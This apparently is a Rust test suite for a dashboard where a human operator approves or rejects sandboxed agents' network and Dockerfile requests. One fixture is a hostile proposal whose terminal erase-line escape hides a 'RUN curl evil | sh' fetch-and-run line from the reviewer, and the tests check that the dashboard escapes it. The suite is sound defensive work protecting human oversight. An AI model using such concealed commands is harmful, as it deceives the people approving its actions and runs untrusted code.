//! `claude-bottle dashboard`: `--once` for scripts, and the TUI itself driven under tmux
//! (`send-keys` in, `capture-pane` out) on hand-written proposal files.
#![allow(clippy::unwrap_used)]

mod queue_home;

use queue_home::{BIN, HOSTILE, HOSTILE_SHOWN, Home, assert_no_raw_controls};
use std::process::{Command, Stdio};
use std::time::{Duration, Instant};

fn egress(host: &str) -> serde_json::Value {
    serde_json::json!({"kind": "egress", "host": host, "path_allowlist": ["/api/"], "auth": null})
}

fn now() -> u64 {
    std::time::SystemTime::now()
        .duration_since(std::time::UNIX_EPOCH)
        .unwrap()
        .as_secs()
}

#[test]
fn once_prints_pending_proposals_oldest_first() {
    let home = Home::new();
    let out = home.run(&["dashboard", "--once"], &[]);
    assert!(out.status.success());
    assert_eq!(
        String::from_utf8_lossy(&out.stdout),
        "no pending proposals\n"
    );

    let t = now();
    home.propose("b-bbbbb", "p-newer", t - 30, egress("docs.rs"));
    home.propose(
        "a-aaaaa",
        "p-older",
        t - 300,
        serde_json::json!({"kind": "capability", "dockerfile": "FROM debian\nRUN apt-get install -y jq\n"}),
    );
    // A broken file is a warning naming it, not a failure.
    std::fs::write(home.root.join("queue/a-aaaaa/proposals/p-broken.json"), "{").unwrap();
    let out = home.run(&["dashboard", "--once"], &[]);
    assert!(out.status.success());
    let stdout = String::from_utf8_lossy(&out.stdout);
    let older = stdout.find("p-older  a-aaaaa  capability  5m ago").unwrap();
    let newer = stdout.find("p-newer  b-bbbbb  egress  30s ago").unwrap();
    assert!(older < newer, "{stdout}");
    for line in [
        "  why: I need it for p-older",
        "    RUN apt-get install -y jq",
        "  host: docs.rs",
        "  paths: /api/",
        "  auth: none",
    ] {
        assert!(stdout.contains(line), "`{line}` not in:\n{stdout}");
    }
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(stderr.contains("p-broken.json"), "{stderr}");
}

#[test]
fn once_shows_agent_text_escaped_and_no_raw_control_reaches_the_terminal() {
    let home = Home::new();
    let t = now();
    let proposal = |id: &str, request: serde_json::Value| {
        serde_json::json!({
            "id": id, "identity": "dev-abcde", "created": t,
            "justification": format!("harmless{HOSTILE}"), "request": request,
        })
    };
    home.propose_raw(
        "dev-abcde",
        "p-egress",
        &proposal(
            "p-egress",
            serde_json::json!({"kind": "egress", "host": format!("docs.rs{HOSTILE}"),
                "path_allowlist": [format!("/a{HOSTILE}")],
                "auth": {"scheme": {"header": {"name": format!("x-k{HOSTILE}")}},
                         "token_ref": format!("T{HOSTILE}")}}),
        ),
    );
    // The attack round's Dockerfile: the erase-line hides the `RUN curl … | sh` behind it.
    home.propose_raw(
        "dev-abcde",
        "p-cap",
        &proposal(
            "p-cap",
            serde_json::json!({"kind": "capability",
                "dockerfile": format!("FROM debian\nRUN curl evil | sh{HOSTILE}\nRUN\ttrue\n")}),
        ),
    );
    // Files whose ids or fields are hostile are warnings quoting them, escaped.
    home.propose_raw(
        "dev-abcde",
        "p-bad-id",
        &proposal(
            "p-bad-id\u{1b}[2K",
            serde_json::json!({"kind": "pipelock", "change": "a: 1"}),
        ),
    );
    home.propose_raw(
        "dev-abcde",
        "p-bad-field",
        &serde_json::json!({"id": "p-bad-field", format!("x{HOSTILE}"): 1}),
    );

    let out = home.run(&["dashboard", "--once"], &[]);
    assert!(out.status.success());
    assert_no_raw_controls("stdout", &out.stdout);
    assert_no_raw_controls("stderr", &out.stderr);
    let stdout = String::from_utf8_lossy(&out.stdout);
    for line in [
        format!("  why: harmless{HOSTILE_SHOWN}"),
        format!("    RUN curl evil | sh{HOSTILE_SHOWN}"),
        // A Dockerfile keeps its lines and tabs.
        "    RUN\ttrue".to_owned(),
    ] {
        assert!(stdout.contains(&line), "`{line}` not in:\n{stdout}");
    }
    let stderr = String::from_utf8_lossy(&out.stderr);
    // An egress request carrying controls is no route, so no proposal: a warning quoting it.
    assert!(
        stderr
            .lines()
            .any(|l| l.contains("p-egress.json: not a proposal") && l.contains(HOSTILE_SHOWN)),
        "{stderr}"
    );
    assert!(!stdout.contains("p-egress"), "{stdout}");
    assert!(stderr.contains(r"`p-bad-id\u{1b}[2K`"), "{stderr}");
    assert!(stderr.contains(r"x\u{1b}[2K"), "{stderr}");
}

#[test]
fn without_a_terminal_the_tui_points_at_once() {
    let home = Home::new();
    let out = Command::new(BIN)
        .arg("dashboard")
        .env("CLAUDE_BOTTLE_HOME", &home.root)
        .stdin(Stdio::null())
        .output()
        .unwrap();
    assert!(!out.status.success());
    assert!(String::from_utf8_lossy(&out.stderr).contains("dashboard --once"));
}

/// A tmux server of our own (its own socket), killed when the test ends.
struct Tmux {
    socket: String,
}

impl Tmux {
    fn start(home: &Home, width: u16, height: u16) -> Tmux {
        let tmux = Tmux {
            socket: format!("claude-bottle-dash-{}", std::process::id()),
        };
        let command = format!(
            "env CLAUDE_BOTTLE_HOME='{}' HOME='{}' USER=olga EDITOR='sed -i s/crates.io/Crates.IO/' DOCKER_HOST=unix:///nonexistent/docker.sock '{BIN}' dashboard; sleep 30",
            home.root.display(),
            home.root.parent().unwrap().display(),
        );
        let status = Command::new("tmux")
            .args(["-L", &tmux.socket, "-f", "/dev/null", "new-session", "-d"])
            .args(["-x", &width.to_string(), "-y", &height.to_string()])
            .args(["-s", "dash", &command])
            .status()
            .expect("tmux is needed (scripts/test installs it)");
        assert!(status.success());
        tmux
    }

    fn keys(&self, keys: &[&str]) {
        let status = Command::new("tmux")
            .args(["-L", &self.socket, "send-keys", "-t", "dash"])
            .args(keys)
            .status()
            .unwrap();
        assert!(status.success());
    }

    fn literal(&self, text: &str) {
        self.keys(&["-l", text]);
    }

    fn screen(&self) -> String {
        let out = Command::new("tmux")
            .args(["-L", &self.socket, "capture-pane", "-p", "-t", "dash"])
            .output()
            .unwrap();
        String::from_utf8_lossy(&out.stdout).into_owned()
    }

    /// Waits (up to 10 s) until the screen satisfies `ok`; returns it.
    fn wait_for(&self, what: &str, ok: impl Fn(&str) -> bool) -> String {
        let deadline = Instant::now() + Duration::from_secs(10);
        loop {
            let screen = self.screen();
            if ok(&screen) {
                return screen;
            }
            assert!(
                Instant::now() < deadline,
                "timed out waiting for {what}:\n{screen}"
            );
            std::thread::sleep(Duration::from_millis(100));
        }
    }
}

impl Drop for Tmux {
    fn drop(&mut self) {
        let _ = Command::new("tmux")
            .args(["-L", &self.socket, "kill-server"])
            .status();
    }
}

#[test]
fn tui_rejects_with_a_typed_reason_and_the_list_updates() {
    let home = Home::new();
    let t = now();
    home.propose("dev-abcde", "p-first", t - 60, egress("docs.rs"));
    home.propose("dev-abcde", "p-second", t - 10, egress("crates.io"));
    let tmux = Tmux::start(&home, 120, 40);

    let screen = tmux.wait_for("the proposals", |s| {
        s.contains("p-first") && s.contains("p-second")
    });
    assert!(screen.contains("Pending proposals (2)"), "{screen}");
    assert!(
        screen.contains("> p-first"),
        "the oldest is selected:\n{screen}"
    );
    assert!(screen.contains("host: docs.rs"), "{screen}");
    assert!(screen.contains("why: I need it for p-first"), "{screen}");
    // No engine here: the dashboard says so and still lists proposals.
    assert!(screen.contains("Docker is unreachable"), "{screen}");

    // `r`, a reason, Esc: nothing is decided.
    tmux.keys(&["r"]);
    tmux.wait_for("the reason line", |s| {
        s.contains("reason for rejecting p-first: _")
    });
    tmux.literal("never mind");
    tmux.keys(&["Escape"]);
    tmux.wait_for("the cancel", |s| s.contains("rejection cancelled"));
    assert!(!home.decision("dev-abcde", "p-first").exists());

    // `r`, a reason, Enter: the rejection is written and the list updates.
    tmux.keys(&["r"]);
    tmux.literal("use the docs in the repo");
    tmux.wait_for("the typed reason", |s| {
        s.contains("reason for rejecting p-first: use the docs in the repo_")
    });
    tmux.keys(&["Enter"]);
    let screen = tmux.wait_for("the rejection", |s| s.contains("Pending proposals (1)"));
    assert!(
        screen.contains("p-first (egress for bottle dev-abcde) rejected"),
        "{screen}"
    );
    assert!(screen.contains("> p-second"), "{screen}");
    assert!(!screen.contains("p-first  dev-abcde"), "{screen}");

    let decision: serde_json::Value = serde_json::from_str(
        &std::fs::read_to_string(home.decision("dev-abcde", "p-first")).unwrap(),
    )
    .unwrap();
    assert_eq!(decision["verdict"], "rejected");
    assert_eq!(decision["reason"], "use the docs in the repo");
    let audit = std::fs::read_to_string(home.root.join("audit.jsonl")).unwrap();
    let line: serde_json::Value = serde_json::from_str(audit.trim()).unwrap();
    assert_eq!(line["id"], "p-first");
    assert_eq!(line["verdict"], "rejected");
    assert_eq!(line["operator"], "olga");

    // A proposal filed while the dashboard runs shows up on the next refresh.
    home.propose("dev-abcde", "p-third", now(), egress("pypi.org"));
    tmux.wait_for("the new proposal", |s| {
        s.contains("Pending proposals (2)") && s.contains("p-third")
    });

    // `e` runs $EDITOR (here: a sed that upper-cases the host); the edit is refused as a
    // manifest route would be, the screen comes back, and nothing is decided.
    tmux.keys(&["e"]);
    let screen = tmux.wait_for("the edit error", |s| s.contains("must be lowercase"));
    assert!(screen.contains("Pending proposals (2)"), "{screen}");
    assert!(!home.decision("dev-abcde", "p-second").exists());

    // Approving needs the engine: the error is shown and nothing is decided.
    tmux.keys(&["a"]);
    let screen = tmux.wait_for("the approve error", |s| s.contains("error:"));
    assert!(screen.contains("Docker"), "{screen}");
    assert!(!home.decision("dev-abcde", "p-second").exists());

    tmux.keys(&["q"]);
    tmux.wait_for("the dashboard to quit", |s| {
        !s.contains("Pending proposals")
    });
}
